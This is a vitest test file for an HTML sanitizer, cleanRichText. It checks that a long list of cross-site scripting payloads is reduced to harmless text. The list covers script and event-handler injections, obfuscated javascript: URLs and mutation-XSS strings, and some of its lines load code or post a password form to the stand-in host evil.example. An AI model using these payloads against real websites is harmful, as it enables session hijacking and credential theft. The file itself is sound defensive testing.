import { describe, expect, it } from 'vitest';
import { cleanRichText } from './rich-text.ts';

/** The only tags that may remain, and the attributes of a link. */
const harmless =
  /^(?:[^<>]|<\/?(?:h3|h4|p|ul|ol|li|strong|em|u)>|<br \/>|<a href="(?:https?:\/\/|mailto:|tel:)[^"<>]*" target="_blank" rel="noopener noreferrer nofollow">|<a>|<\/a>)*$/;

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/random>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<img src="x:x" onerror="alert(1)"',
  '<p onclick="alert(1)" onmouseover=alert(1) style="background:url(javascript:alert(1))">text</p>',
  '<p style="position:fixed;inset:0;z-index:9999">over everything</p>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="java\u202escript:alert(1)">x</a>',
  '<a href="java&#x202e;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://flagstick.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/auth/signOut">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" ping="https://evil.example" download>x</a>',
  '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; body { display: none }</style>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?import namespace="t" implementation="#default#time2">',
  '<p id="root" name="getElementById" class="button" data-path="x" slot="s">clobbers</p>',
  '<x-custom is="y">x</x-custom>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '"><img src=x onerror=alert(1)>',
  '</div></body><script>alert(1)</script>',
  `${'<p>'.repeat(3000)}deep`,
  `${'<ul><li>'.repeat(1500)}deep`,
  `<a href="https://ok.example/${'<'.repeat(400)}">x</a>`,
  `${'<'.repeat(5000)}script>alert(1)</script>`,
];

describe('rich text', () => {
  it.each(attacks)('cleaning makes an attack harmless text: %s', (html) => {
    const clean = cleanRichText(html);
    expect(clean).toMatch(harmless);
    // Cleaning twice gives the same result: nothing is hidden that a second parse would reveal.
    expect(cleanRichText(clean)).toBe(clean);
  });

  it('cleaning keeps headings, paragraphs, lists, bold, italic, underlined and links', () => {
    const html =
      '<h3>Out of bounds</h3><p>Beyond <strong>white</strong> <em>stakes</em>, <u>always</u>.<br />See below.</p><ul><li><p>Red</p></li></ul><ol><li><p>One</p></li></ol>';
    expect(cleanRichText(html)).toBe(html);
    expect(cleanRichText('<p><a href="https://randa.org/rules">R&amp;A</a></p>')).toBe(
      '<p><a href="https://randa.org/rules" target="_blank" rel="noopener noreferrer nofollow">R&amp;A</a></p>',
    );
    expect(cleanRichText('<a href="mailto:pro@club.example">Pro</a>')).toContain('mailto:pro@club.example');
  });

  it('cleaning keeps the end of a link that follows a link without a target', () => {
    expect(
      cleanRichText('<p><a href="javascript:x">a</a> <a href="https://b.example">b</a></p><p>c</p>'),
    ).toBe(
      '<p><a>a</a> <a href="https://b.example/" target="_blank" rel="noopener noreferrer nofollow">b</a></p><p>c</p>',
    );
  });

  it('cleaning converts other editors’ markup and keeps the text of unknown tags', () => {
    expect(cleanRichText('<h1>Top</h1><div><b>b</b><i>i</i><span style="x">s</span></div>')).toBe(
      '<h3>Top</h3><strong>b</strong><em>i</em>s',
    );
    expect(cleanRichText('a < b & c > d')).toBe('a &lt; b &amp; c &gt; d');
  });

  it('rich text without a visible character is empty', () => {
    for (const html of ['', '<p></p>', '<p>&nbsp;</p>', ' <ul><li><br></li></ul> ', '<script>1</script>']) {
      expect(cleanRichText(html)).toBe('');
    }
  });

  it('cleaning removes characters that databases refuse or that reverse text', () => {
    expect(cleanRichText('<p>a\u0000b\u202ec\ud800d&#x202e;e</p>')).toBe('<p>abcde</p>');
  });

  it('the largest rich text of any content is cleaned within a moment', () => {
    for (const part of [
      '<p>',
      '<a href="https://x.example">',
      '<b><i>',
      '&#',
      '<!--',
      '<svg><style>',
      '"><',
    ]) {
      // Measures processor time, because waiting for a processor depends on the machine.
      const before = process.cpuUsage();
      cleanRichText(part.repeat(20_000 / part.length));
      const { user, system } = process.cpuUsage(before);
      expect((user + system) / 1000, part).toBeLessThan(500);
    }
  });
});
